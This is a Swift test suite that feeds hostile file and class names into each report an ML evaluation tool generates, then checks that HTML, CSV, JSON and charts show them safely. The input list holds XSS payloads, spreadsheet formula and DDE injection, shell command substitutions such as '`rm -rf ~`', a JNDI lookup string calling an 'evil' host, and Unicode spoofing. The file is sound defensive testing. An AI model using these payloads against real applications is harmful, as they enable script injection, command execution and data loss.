import Datasets
import Documents
import Evaluation
import Foundation
import Graphs
import Quantization
import Reports
import Tensors
import Testing

/// Names as an enemy would choose them, thrown at every report.
@Suite("Hostile names")
struct HostileNamesTests {
  static let names = [
    "<script>alert(1)</script>.jpg", "\" onerror=\"alert(1)", "' onmouseover='alert(1)",
    "</style><img src=x onerror=y>",
    "a]]>--><!--", "=HYPERLINK(\"http://evil\")", "photo\u{202E}gpj.exe", "nul\u{0}bell\u{7}", "\u{2028}line",
    "&lt;b&gt;", "javascript:alert(1)", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1",
    "`rm -rf ~`", "$(reboot)", "line\nbreak\r\n=1+1", "\u{200F}\u{2067}right to left\u{2069}", "\u{1B}[31mred",
    "</script><script>alert(1)</script>", "]]><svg onload=alert(1)>", "%00", "${jndi:ldap://evil}", "{{7*7}}",
    "very/long/" + String(repeating: "x", count: 3000),
  ]

  /// One of each report, all of whose words are hostile.
  private static func reports(_ name: String) throws -> [any Report] {
    let samples = [
      Sample(path: name, annotation: .classIndex(1)), Sample(path: "b" + name, annotation: .classIndex(0)),
    ]
    let parent = try Predictions(
      samples: samples, outputCount: 2, values: [0.75, 0.25, 0.5, 0.5],
      skipped: [DatasetProblem(path: name, reason: name)])
    let optimized = try Predictions(samples: samples, outputCount: 2, values: [0.25, 0.75, 0.5, 0.5])
    let classes = ClassNames(Labels(classes: [name, name].map { ClassLabel(fullName: $0) }))
    let comparison = try PredictionComparison(optimized: optimized, parent: parent)
    let image = try Image(size: ImageSize(2), pixels: [UInt8](repeating: 90, count: 12))
    let shelf = PictureShelf(image, path: name)
    let annotated = try AnnotationComparison(optimized)
    let measurement = BenchmarkMeasurement(
      model: name, precision: name, configuration: .init(streams: 1, batch: 1, threads: 1), throughput: 1,
      latency: LatencyStatistics(seconds: [1]), iterationCount: 1, sliceThroughputs: [1])
    let layer = LayerTiming(
      name: name, layers: [name], operation: name, kernel: name, precision: name, seconds: 1)
    let side = ModelComparisonReport.Side(
      name: name, measurement: measurement, weightByteCount: 1, arenaByteCount: 1, layers: [layer, layer])
    return [
      try PredictionComparisonReport(
        .init(optimized: name, parent: name, dataset: name, classes: classes), comparison: comparison,
        optimized: optimized, parent: parent, selection: [0, 1], selectionText: name, pictures: shelf),
      try AccuracyReport(
        model: name, dataset: name, comparison: annotated, predictions: optimized, parent: (name, annotated),
        selection: [0, 1], classes: classes, pictures: shelf),
      BenchmarkReport([measurement], latencyLimit: 2),
      ModelComparisonReport(
        reference: side, others: [.init(side, speed: SpeedComparison(reference: [1, 1], optimized: [1, 1]))],
        dataset: name),
      PredictionReport(
        model: name, dataset: name, predictions: optimized, isClassifier: true, classes: classes, top: 2,
        savedPath: name, pictures: shelf),
      VisualizationReport(
        model: name, parent: name,
        items: [
          .init(path: name, scores: optimized.scores(ofSample: 0), parentScores: parent.scores(ofSample: 0))
        ], classes: classes, pictures: shelf),
      PictureReport(samples[0], image: image, labels: nil),
      CalibrationReport(
        model: name, parent: name, dataset: name, imageCount: 1, datasetCount: 1,
        skipped: [DatasetProblem(path: name, reason: name)],
        settings: .init(method: name, preset: name, scheme: name, ignored: [name]), seconds: 1, digest: "00",
        quantizedLayers: [name],
        floatLayers: [.init(name: name, operatorName: name, reason: name)]),
      EnvironmentReport(
        facts: [.init(name, name)], assets: [.init(name: name, kind: name, summary: name, path: name, digest: name)]),
      ModelReport(
        .init(
          name: name, precision: name, parent: name, source: name, fileByteCount: 1, digest: name,
          preprocessing: name, labelCount: 1, notes: [name], inputs: [.init(name: name, type: name)],
          outputs: [.init(name: name, type: name)]), analysis: ModelAnalysis(try graph(name)),
        layers: LayerRow.rows(ModelAnalysis(try graph(name)), steps: [layer]),
        diagram: ModelDiagram.make(
          try graph(name), name: name, layers: LayerRow.rows(ModelAnalysis(try graph(name)), steps: [layer]),
          coloring: .type)),
      ExportedFileReport(path: name, byteCount: 1, format: name, omissions: [name]),
      ExportReport(
        model: name, path: name, precision: "INT8", format: name, quantizedForm: name, nodeCount: 1, byteCount: 1,
        digest: name, companion: .init(path: name, byteCount: 1, digest: name)),
      DistanceReport(
        model: name, parent: name, dataset: name,
        comparison: DistanceComparison(
          rows: samples.map {
            .init(sample: $0, output: name, distance: TensorDistance(reference: [1, 2], value: [1, 3]))
          },
          layers: [name, "b" + name].map {
            .init(
              name: $0, operatorName: name, isQuantized: true,
              distance: TensorDistance(reference: [1, 2], value: [1, 3]))
          }, skipped: [DatasetProblem(path: name, line: 1, reason: name)]), selection: [0, 1], pictures: shelf),
      ImportanceReport(
        model: name, path: name, frame: image, scores: optimized.scores(ofSample: 0),
        maps: [try #require(ImportanceMap(classIndex: 0, size: ImageSize(2), values: [0, 0.5, 1, 0]))], maskCount: 1,
        classes: classes),
      ReportTypesReport(
        model: name, dataset: name,
        kinds: [
          .init(name: name, command: name, summary: name, obstacle: nil),
          .init(name: name, command: name, summary: name, obstacle: name),
        ]),
      SensitivityReport(
        model: name, parent: name, dataset: name,
        analysis: SensitivityAnalysis(
          layers: [.init(name: name, operatorName: name, signalToNoise: 1, outputGain: 1)], outputSignalToNoise: 1,
          sampleCount: 1)),
      CacheReport(folder: name, limit: 1, entries: [.init(title: name, count: 1, byteCount: 1)]),
      OutOfDateReport([.init(name: name, problem: RichText(name), statement: name)]),
    ]
  }

  private static func graph(_ name: String) throws -> Graph {
    var graph = Graph(name: name)
    let input = graph.addInput(name, ValueType(.float32, try Shape([1, 2])))
    let relu = try OperatorCatalog.make("Relu", node: name, opset: 17, attributes: [:])
    graph.outputs = graph.append(relu, name: name, inputs: [input])
    try graph.inferTypes()
    return graph
  }

  @Test(arguments: names) func areShownAndNotObeyed(_ name: String) throws {
    for report in try Self.reports(name) { try Self.check(report) }
  }

  /// The report of a folder whose name and whose pictures have the names that a file system allows.
  @Test func ofFilesAreShownAndNotObeyed() throws {
    let folder = FileManager.default.temporaryDirectory.appendingPathComponent(
      "<img src=x onerror=alert(1)>\"' \(UUID().uuidString)")
    try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(at: folder) }
    let picture = try ImageGrid(cards: []).png()
    let names = Self.names.filter { !$0.contains("/") && !$0.contains("\u{0}") }
    for name in names { try Data(picture.bytes).write(to: folder.appendingPathComponent(name + ".png")) }
    let dataset = try Dataset(openingFolder: folder.path)
    #expect(dataset.samples.count == names.count)
    let label = ClassLabel(fullName: names[0])
    try Self.check(
      DatasetReport(
        dataset, labels: Labels(classes: [label]), pictures: try PictureShelf(dataset.samples, of: dataset)))
  }

  private static func check(_ report: any Report) throws {
    let kind = "\(type(of: report))"
    let page = report.pageWithCharts.htmlPage()
    for html in [page, report.document.html()] {
      let body = try withoutStyleAndScript(html)
      for piece in ["<script", "<img src=x", "<svg onload", "onerror=\"", "onmouseover='", "</style", "<b>"] {
        #expect(!body.contains(piece), "\(kind): \(piece)")
      }
      #expect(!body.unicodeScalars.contains { $0 == "\u{0}" || $0 == "\u{202E}" || $0 == "\u{2067}" }, "\(kind)")
      #expect(html.components(separatedBy: "<script>").count <= 2, "\(kind)")
    }
    let text = report.plainText
    let forbidden: Set<Unicode.Scalar> = ["\u{0}", "\u{7}", "\u{1B}", "\u{202E}", "\u{2067}"]
    #expect(!text.unicodeScalars.contains(where: forbidden.contains), "\(kind)")
    let json = report.data.json
    #expect(throws: Never.self, "\(kind)") {
      try JSONSerialization.jsonObject(with: Data(json.utf8), options: .fragmentsAllowed)
    }
    for chart in report.charts {
      #expect(!chart.vegaLite().contains("<") && !chart.svg().contains("<script"), "\(kind)")
    }
    for table in report.document.tables {
      for field in fields(of: table.csv()) where field.first.map({ "=+-@".contains($0) }) ?? false {
        #expect(Double(field) != nil, "\(kind): a formula in CSV: \(field.prefix(40))")
      }
    }
    #expect(try report.pageWithCharts.pagePNG(scale: 0.5).content.bytes.starts(with: [0x89, 0x50]), "\(kind)")
    for case .diagram(let diagram) in report.document.blocks {
      #expect(!diagram.svg().contains("<script") && !diagram.svg().contains("onerror=\""))
    }
  }

  private static func withoutStyleAndScript(_ html: String) throws -> String {
    var rest = html[...]
    var body = ""
    for (start, end) in [("<style>", "</style>"), ("<style>", "</style>"), ("<script>", "</script>")] {
      guard let from = rest.range(of: start), let to = rest.range(of: end, range: from.upperBound..<rest.endIndex)
      else {
        continue
      }
      body += rest[..<from.lowerBound]
      rest = rest[to.upperBound...]
    }
    return body + rest
  }

  /// The fields of comma-separated values, quotes removed.
  private static func fields(of csv: String) -> [String] {
    var fields: [String] = []
    var field = ""
    var isQuoted = false
    for scalar in csv.unicodeScalars {
      switch scalar {
      case "\"": isQuoted.toggle()
      case "," where !isQuoted, "\n" where !isQuoted, "\r" where !isQuoted:
        fields.append(field)
        field = ""
      default: field.unicodeScalars.append(scalar)
      }
    }
    return fields + [field]
  }
}
